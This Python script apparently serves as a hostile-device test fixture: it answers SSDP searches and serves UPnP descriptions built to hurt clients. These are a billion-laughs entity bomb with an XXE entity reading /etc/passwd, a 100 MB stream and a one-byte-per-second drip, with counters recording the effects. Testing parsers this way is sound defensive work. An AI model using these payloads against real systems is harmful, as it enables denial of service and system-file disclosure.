"""Correct SSDP, but a description that hurts: ADDRESS COUNTERS bomb|huge|drip."""

import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from common import Counters, description, join_ssdp, searches, ssdp_answer

PORT = 8080
HUGE = 100 * 1024 * 1024
UUIDS = {kind: f"00000000-de5c-4000-8000-00000000000{number}" for number, kind in enumerate(("bomb", "huge", "drip"))}


def bomb(uuid: str) -> bytes:
    """Nine levels of ten: a billion words if the entities are expanded."""
    entities = ['<!ENTITY a0 "lol">']
    entities += [f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 10)]
    body = description(uuid, "&a9;").decode().removeprefix('<?xml version="1.0"?>')
    return f'<?xml version="1.0"?><!DOCTYPE root [{"".join(entities)}<!ENTITY x SYSTEM "file:///etc/passwd">]>{body}'.encode()


def main() -> None:
    own, path, kind = sys.argv[1:4]
    uuid = UUIDS[kind]
    counters = Counters(path, searches=0, requests=0, bytes_sent=0)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            counters.add("requests")
            self.send_response(200)
            self.send_header("Content-Type", "text/xml")
            if kind == "bomb":
                self.send_header("Content-Length", str(len(bomb(uuid))))
            self.end_headers()
            sent = 0
            try:
                for piece in pieces(kind, uuid):
                    self.wfile.write(piece)
                    sent += len(piece)
            except OSError:
                pass  # the other side had enough
            counters.add("bytes_sent", sent)

        def log_message(self, *_):
            pass

    threading.Thread(target=ThreadingHTTPServer(("", PORT), Handler).serve_forever, daemon=True).start()
    sock = join_ssdp(own)
    for sender in searches(sock):
        counters.add("searches")
        for what in ("upnp:rootdevice", "urn:schemas-upnp-org:device:Basic:1"):
            sock.sendto(ssdp_answer(f"http://{own}:{PORT}/{kind}.xml", uuid, what), sender)


def pieces(kind: str, uuid: str):
    if kind == "bomb":
        yield bomb(uuid)
    elif kind == "huge":
        before, after = description(uuid, "Huge", "<x>|</x>").split(b"|")
        yield before
        block = b"<y>0123456789</y>" * 4096
        for _ in range(HUGE // len(block)):
            yield block
        yield after
    else:
        for byte in description(uuid, "Drip"):
            yield bytes([byte])
            time.sleep(1)


main()
